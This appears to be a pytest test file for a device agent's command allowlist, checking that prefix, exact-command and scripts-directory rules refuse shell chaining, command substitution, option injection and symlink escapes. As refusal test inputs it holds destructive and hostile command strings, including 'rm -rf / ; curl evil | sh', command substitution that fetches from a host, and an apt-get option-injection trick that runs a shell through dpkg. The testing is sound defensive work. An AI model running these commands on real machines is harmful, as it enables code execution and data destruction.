"""The device's local command policy: --allow-command(s-file), --allow-prefix(-with-options) and
--allow-scripts-dir, and their settings."""

from __future__ import annotations

import os

import pytest

from agent import daemon
from agent.policy import CommandPolicy, normalize_command, prefix_is_usable
from agent.settings import ENV_PREFIX, load_settings

KEY = "11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo="  # RFC 8032 TEST 1's public key
BASE_ARGS = ["--broker", "h:1", "--device-id", "d", "--server-key", KEY]


# --- no policy ------------------------------------------------------------------------------


def test_without_a_policy_every_command_is_allowed():
    policy = CommandPolicy()
    assert not policy.restricts
    assert policy.allows("rm -rf / ; curl evil | sh")


# --- --allow-prefix ---------------------------------------------------------------------------


@pytest.mark.parametrize("command", [
    "apt-get", "apt-get update", "  apt-get update", "\tapt-get install nginx=1.2",
    "apt-get install 'a b'", "apt-get update   ",
])
def test_a_prefix_allows_the_command_and_its_arguments(command):
    assert CommandPolicy(allow_prefixes=("apt-get",)).allows(command)


@pytest.mark.parametrize("command", [
    "apt-get-evil", "apt-getx update", "xapt-get update", "sudo apt-get update", "",
    "apt-get update; rm -rf /", "apt-get update && reboot", "apt-get update || reboot", "apt-get update | sh",
    "apt-get update &", "apt-get install $(curl evil)", "apt-get install `id`", "apt-get install ${HOME}",
    "apt-get update > /etc/passwd", "apt-get install < /dev/zero", "apt-get update\nreboot",
    "apt-get update\rreboot", "apt-get install \\\nx", "apt-get (x)", "apt-get update\x00", "apt-get\x0bupdate",
])
def test_a_prefix_refuses_other_commands_and_anything_the_shell_would_chain(command):
    assert not CommandPolicy(allow_prefixes=("apt-get",)).allows(command)


def test_a_prefix_of_several_words_must_match_them_all():
    policy = CommandPolicy(allow_prefixes=("systemctl restart", "apt-get"))
    assert policy.allows("systemctl restart nginx")
    assert policy.allows("apt-get update")
    assert not policy.allows("systemctl stop nginx")
    assert not policy.allows("systemctl restartx")


@pytest.mark.parametrize("prefix, usable", [
    ("apt-get", True), ("systemctl restart", True), ("", False), (" apt", False), ("apt ", False),
    ("a;b", False), ("a|b", False), ("a\nb", False), ("$x", False), ("echo 'a", False), ("echo 'a b'", True),
])
def test_a_prefix_no_command_could_match_is_not_usable(prefix, usable):
    assert prefix_is_usable(prefix) is usable


EXPLOIT = "apt-get install -o Dir::Bin::dpkg=/bin/sh -o DPkg::Options::=-c nginx"


@pytest.mark.parametrize("command", [
    EXPLOIT, "apt-get install nginx -o x", "apt-get install --reinstall nginx", "apt-get install -- nginx",
    "apt-get install '-o' x", 'apt-get install "-o" x', "apt-get install ''-o x", "apt-get install \"\"'-'o x",
    "apt-get install *", "apt-get install ''* x", "apt-get install [-]o", "apt-get install {-o,x}",
    "apt-get install 'nginx", "apt-get install\t-y",
])
def test_an_option_after_a_prefix_is_refused(command):
    policy = CommandPolicy(allow_prefixes=("apt-get install",))
    assert not policy.allows(command)
    assert "--allow-prefix-with-options" in policy.refusal(command) or "quote" in policy.refusal(command)


@pytest.mark.parametrize("command", [
    "apt-get install nginx", "apt-get install nginx-common nginx=1.2-3", "apt-get install 'a -b'",
    "apt-get install nginx* x-y", "apt-get install '*'", "apt-get install ~/x.deb", "apt-get install",
])
def test_words_after_a_prefix_that_are_not_options_are_allowed(command):
    assert CommandPolicy(allow_prefixes=("apt-get install",)).allows(command)


def test_options_in_the_prefix_itself_are_the_operators_own():
    policy = CommandPolicy(allow_prefixes=("apt-get install -y",))
    assert policy.allows("apt-get install -y nginx")
    assert not policy.allows("apt-get install -y -o x nginx")


def test_a_prefix_with_options_takes_options_but_still_no_shell_special():
    policy = CommandPolicy(option_prefixes=("journalctl",))
    assert policy.allows("journalctl -u app --since -1h")
    assert not policy.allows("journalctl -u app; reboot")
    assert "journalctl' with options" in policy.describe()


@pytest.mark.parametrize("command, reason", [
    (EXPLOIT, "'-o' after the prefix 'apt-get install' is or may expand to an option; only an "
              "--allow-prefix-with-options prefix takes options"),
    ("apt-get install x; reboot", "it holds ';', which no --allow-prefix rule allows"),
    ("reboot", "it matches no --allow-command or --allow-prefix rule"),
])
def test_a_refusal_names_the_rule(command, reason):
    policy = CommandPolicy(allow_prefixes=("apt-get install",), allow_commands=("uptime",))
    assert policy.refusal(command) == reason


# --- --allow-command ------------------------------------------------------------------------


@pytest.mark.parametrize("command, allowed", [
    ("systemctl restart app", True), ("  systemctl   restart\tapp ", True), ("systemctl restart app2", False),
    ("systemctl restart app; reboot", False), ("systemctl restart app -o x", False),
    ("systemctl restart", False), ("systemctl restart app\n", False), ("echo 'a  b'", True),
    ("echo 'a b'", False), (" echo 'a  b'\t", True), ("echo  'a  b'", False),
])
def test_an_exact_command_must_match_whole(command, allowed):
    policy = CommandPolicy(allow_commands=(normalize_command("systemctl restart app"),
                                           normalize_command("echo 'a  b'")))
    assert policy.allows(command) is allowed


def test_an_exact_command_may_hold_what_the_prefix_rule_refuses():
    policy = CommandPolicy(allow_commands=("apt-get update && apt-get -y upgrade",))
    assert policy.allows("apt-get update && apt-get -y upgrade")
    assert policy.describe() == "commands allowed: 1 exact command"


# --- --allow-scripts-dir ------------------------------------------------------------------------


@pytest.fixture
def scripts(tmp_path):
    """A scripts dir with deploy.sh, a subdir, and things outside it."""
    root = tmp_path / "scripts"
    (root / "sub").mkdir(parents=True)
    for path in (root / "deploy.sh", root / "sub" / "inner.sh", tmp_path / "outside.sh",
                 tmp_path / "scripts-evil.sh"):
        path.write_text("#!/bin/sh\necho hi\n")
        path.chmod(0o755)
    (root / "escape.sh").symlink_to(tmp_path / "outside.sh")
    (tmp_path / "link-in.sh").symlink_to(root / "deploy.sh")
    (root / "dangling.sh").symlink_to(tmp_path / "missing.sh")
    return root


@pytest.mark.parametrize("command", [
    "{root}/deploy.sh", "  {root}/deploy.sh", "{root}/deploy.sh v1.2.3 --force x=1 a,b:c@d%e+f",
    "{root}/sub/inner.sh", "{root}/sub/../deploy.sh", "{root}//deploy.sh", "{tmp}/link-in.sh", "{root}/deploy.sh ",
])
def test_a_script_inside_the_dir_is_allowed(scripts, command):
    policy = CommandPolicy(scripts_dir=scripts)
    assert policy.allows(command.format(root=scripts, tmp=scripts.parent))


@pytest.mark.parametrize("command", [
    "deploy.sh", "./deploy.sh", "scripts/deploy.sh", "sh {root}/deploy.sh",
    "{tmp}/outside.sh", "{root}/../outside.sh", "{root}/escape.sh", "{tmp}/scripts-evil.sh",
    "{root}/missing.sh", "{root}/dangling.sh", "{root}/sub", "{root}", "{root}/", "/",
    "{root}/deploy.sh; reboot", "{root}/deploy.sh && reboot", "{root}/deploy.sh | sh", "{root}/deploy.sh $(id)",
    "{root}/deploy.sh `id`", "{root}/deploy.sh > /etc/passwd", "{root}/deploy.sh 'quoted arg'",
    "{root}/deploy.sh *", "{root}/deploy.sh ~", "{root}/deploy.sh\nreboot", "{root}/deploy.sh &",
    "{root}/deploy.sh $HOME", "{root}/deploy.sh a\\ b", "{root}/dep*.sh", "",
])
def test_anything_else_is_refused_by_the_scripts_dir(scripts, command):
    policy = CommandPolicy(scripts_dir=scripts)
    assert not policy.allows(command.format(root=scripts, tmp=scripts.parent))


def test_a_scripts_dir_reached_through_a_symlink_is_resolved(scripts, tmp_path):
    alias = tmp_path / "alias"
    alias.symlink_to(scripts)
    assert CommandPolicy(scripts_dir=alias).allows(f"{scripts}/deploy.sh")
    assert CommandPolicy(scripts_dir=scripts).allows(f"{alias}/deploy.sh")


def test_with_both_rules_either_allows(scripts):
    policy = CommandPolicy(allow_prefixes=("uptime",), scripts_dir=scripts)
    assert policy.allows("uptime")
    assert policy.allows(f"{scripts}/deploy.sh")
    assert not policy.allows("reboot")
    assert "prefix 'uptime'" in policy.describe() and str(scripts) in policy.describe()


# --- settings -------------------------------------------------------------------------------


def test_prefixes_come_from_repeated_flags(tmp_path):
    settings = load_settings([*BASE_ARGS, "--allow-prefix", "apt-get", "--allow-prefix", " systemctl restart "], {})
    assert settings.policy == CommandPolicy(allow_prefixes=("apt-get", "systemctl restart"))


def test_prefixes_come_from_a_comma_or_newline_separated_variable():
    env = {"OTA_AGENT_ALLOW_PREFIX": "apt-get, systemctl restart\nuptime,\n"}
    assert load_settings(BASE_ARGS, env).policy.allow_prefixes == ("apt-get", "systemctl restart", "uptime")


def test_a_flag_wins_over_the_prefix_variable():
    env = {"OTA_AGENT_ALLOW_PREFIX": "apt-get"}
    assert load_settings([*BASE_ARGS, "--allow-prefix", "uptime"], env).policy.allow_prefixes == ("uptime",)


def test_the_scripts_dir_comes_from_the_flag_or_its_variable(tmp_path):
    assert load_settings([*BASE_ARGS, "--allow-scripts-dir", str(tmp_path)], {}).policy.scripts_dir == tmp_path
    env = {"OTA_AGENT_ALLOW_SCRIPTS_DIR": str(tmp_path)}
    assert load_settings(BASE_ARGS, env).policy.scripts_dir == tmp_path


def test_exact_commands_come_from_flags_or_the_variable_and_a_file(tmp_path):
    commands = tmp_path / "commands"
    commands.write_text("# restarts\n\nsystemctl restart app\r\n  apt-get update && apt-get -y upgrade  \n")
    commands.chmod(0o644)
    flags = [*BASE_ARGS, "--allow-command", "uptime", "--allow-command", "df  -h", "--allow-commands-file",
             str(commands)]
    assert load_settings(flags, {}).policy.allow_commands == (
        "uptime", "df -h", "systemctl restart app", "apt-get update && apt-get -y upgrade")
    env = {"OTA_AGENT_ALLOW_COMMAND": "uptime\nsystemctl restart a,b\n"}
    assert load_settings(BASE_ARGS, env).policy.allow_commands == ("uptime", "systemctl restart a,b")


def test_prefixes_with_options_come_from_their_flag_or_variable():
    flags = [*BASE_ARGS, "--allow-prefix-with-options", "journalctl"]
    assert load_settings(flags, {}).policy.option_prefixes == ("journalctl",)
    env = {"OTA_AGENT_ALLOW_PREFIX_WITH_OPTIONS": "journalctl,df"}
    assert load_settings(BASE_ARGS, env).policy.option_prefixes == ("journalctl", "df")


def test_without_policy_settings_there_is_no_policy():
    assert not load_settings(BASE_ARGS, {}).policy.restricts


@pytest.mark.parametrize("argv, env, names", [
    (["--allow-prefix", ""], {}, ("--allow-prefix", "OTA_AGENT_ALLOW_PREFIX", "empty")),
    (["--allow-prefix", "a;b"], {}, ("--allow-prefix", "OTA_AGENT_ALLOW_PREFIX", "shell special")),
    ([], {"OTA_AGENT_ALLOW_PREFIX": "ok,$(x)"}, ("--allow-prefix", "OTA_AGENT_ALLOW_PREFIX", "'$(x)'")),
    (["--allow-scripts-dir", "/nonexistent/dir"], {}, ("--allow-scripts-dir", "OTA_AGENT_ALLOW_SCRIPTS_DIR")),
    (["--allow-scripts-dir", "relative/dir"], {}, ("--allow-scripts-dir", "absolute path")),
    (["--allow-prefix-with-options", "a|b"], {}, ("--allow-prefix-with-options", "shell special")),
    (["--allow-command", "uptime\nreboot"], {}, ("--allow-command", "OTA_AGENT_ALLOW_COMMAND", "control")),
    (["--allow-command", " "], {}, ("--allow-command", "empty")),
    (["--allow-commands-file", "/nonexistent/f"], {}, ("--allow-commands-file", "cannot be read")),
])
def test_a_bad_policy_setting_exits_2_naming_the_flag_and_variable(monkeypatch, capsys, argv, env, names):
    for key in [k for k in os.environ if k.startswith(ENV_PREFIX)]:
        monkeypatch.delenv(key)
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    assert daemon.main([*BASE_ARGS, *argv]) == 2
    error = capsys.readouterr().err
    assert error.startswith("ota-agent: error: ")
    for name in names:
        assert name in error


@pytest.mark.parametrize("mode", [0o664, 0o646])
def test_a_commands_file_others_may_write_is_refused(monkeypatch, capsys, tmp_path, mode):
    for key in [k for k in os.environ if k.startswith(ENV_PREFIX)]:
        monkeypatch.delenv(key)
    commands = tmp_path / "commands"
    commands.write_text("uptime\n")
    commands.chmod(mode)
    assert daemon.main([*BASE_ARGS, "--allow-commands-file", str(commands)]) == 2
    assert "--allow-commands-file (or OTA_AGENT_ALLOW_COMMANDS_FILE) names" in capsys.readouterr().err
